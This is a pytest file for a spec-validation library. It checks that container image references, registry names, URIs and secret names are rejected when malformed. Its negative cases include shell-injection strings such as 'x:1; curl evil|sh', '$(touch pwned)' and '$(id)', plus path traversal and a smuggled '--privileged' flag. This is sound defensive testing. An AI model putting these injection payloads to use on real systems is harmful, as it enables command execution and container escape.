"""Names and references are checked against the grammar of the system that receives them."""

from __future__ import annotations

import re

import pytest
from docker_image import reference
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError

from specops.specs.common import IMAGE_RE, AliasName, ImageRef, RegistryName, SecretKeyRef, Uri


def ok(type_, value) -> bool:
    try:
        TypeAdapter(type_).validate_python(value, strict=True)
        return True
    except ValidationError:
        return False


@pytest.mark.parametrize("image", [
    "vllm/vllm-openai:v0.32.0", "ghcr.io/specops-dev/runtime:0.1.0", "python:3.11-slim", "busybox",
    "localhost:5000/a/b@sha256:" + "a" * 64, "us-docker.pkg.dev/acme/x/y:1", "[::1]:5000/x:latest",
    "registry.example.com/a__b/c-d.e:tag_1", "UPPER.example.com/x",
])
def test_valid_image_references(image: str) -> None:
    assert ok(ImageRef, image)


@pytest.mark.parametrize("image", [
    "x:1; curl evil|sh", "$(touch pwned)", "../../x", "ghcr.io/Acme/train:1", "a b", "x:", ":1",
    "ghcr.io/acme/train@sha256:xyz", "x" * 300, "x:1 --privileged", "a/b:" + "t" * 129,
    "0.0_0/0",  # a first component with a dot is a registry host, and this one is not valid
])
def test_invalid_image_references(image: str) -> None:
    assert not ok(ImageRef, image)


_image_chars = st.text(alphabet=st.sampled_from(list("abcXYZ019.-_/:@[]")), min_size=1, max_size=60)


@settings(max_examples=2000, deadline=None)
@given(_image_chars)
def test_image_grammar_agrees_with_docker_image_py(text: str) -> None:
    """docker-image-py ports github.com/distribution/reference; our stdlib regex must accept
    exactly what its grammar accepts (its length rule aside, covered above)."""
    try:
        reference.Reference.parse(text)
        theirs = True
    except reference.InvalidReference:
        theirs = False
    except (IndexError, AttributeError, ValueError):
        return  # its own crashes on odd input are not a verdict
    assert bool(IMAGE_RE.fullmatch(text)) == theirs, text


def test_registry_names_and_aliases() -> None:
    assert ok(RegistryName, "churn-classifier") and ok(RegistryName, "support_llm.v2")
    for bad in ("$(touch pwned)", "../../x", "team/churn", "a..b", "-x", ""):
        assert not ok(RegistryName, bad), bad
    assert ok(AliasName, "champion") and ok(AliasName, "prod_2")
    for bad in ("latest", "v2", "V10", "../x", "a.b", "a b"):
        assert not ok(AliasName, bad), bad


def test_uri_grammars() -> None:
    for good in ("s3://acme-ml/x.csv", "gs://acme_ml/x", "hf://org/name", "hf://datasets/org/name@v1",
                 "https://data.acme.com:8443/x", "file://data/x.csv"):
        assert ok(Uri, good), good
    for bad in ("s3://Bad_Bucket/x", "gs://a/x", "hf://datasets/../../x", "https://kfp host/",
                "s3://acme/x\nrm", "https://h:99999999/x", "ftp://x/y"):
        assert not ok(Uri, bad), bad


def test_uri_credentials_message_never_echoes_the_password() -> None:
    with pytest.raises(ValidationError) as e:
        TypeAdapter(Uri).validate_python("postgresql://admin:S3cr3t@db/crm")
    assert e.value.errors()[0]["type"] == "credentials-in-uri"
    assert "S3cr3t" not in str(e.value.errors()[0]["msg"])


@pytest.mark.parametrize("provider,name,good", [
    ("kubernetes", "hf-token", True), ("kubernetes", "HF_Token", False), ("env", "HF_TOKEN", True),
    ("env", "$(id)", False), ("aws-secrets-manager", "prod/hf", True), ("gcp-secret-manager", "kfp-token", True),
    ("gcp-secret-manager", "a/b", False), ("vault", "secret/data/hf", True), ("vault", "secret/../x", False),
])
def test_secret_names_follow_their_store(provider: str, name: str, good: bool) -> None:
    assert ok(SecretKeyRef, {"provider": provider, "name": name}) is good


def test_no_grammar_backtracks_on_long_input() -> None:
    # Every grammar bounds the length before matching; the OCI regex itself is linear on the
    # longest input it is ever given.
    assert IMAGE_RE.fullmatch("a" * 511 + "!") is None
    assert re.fullmatch(IMAGE_RE.pattern, "a-" * 250 + "!") is None
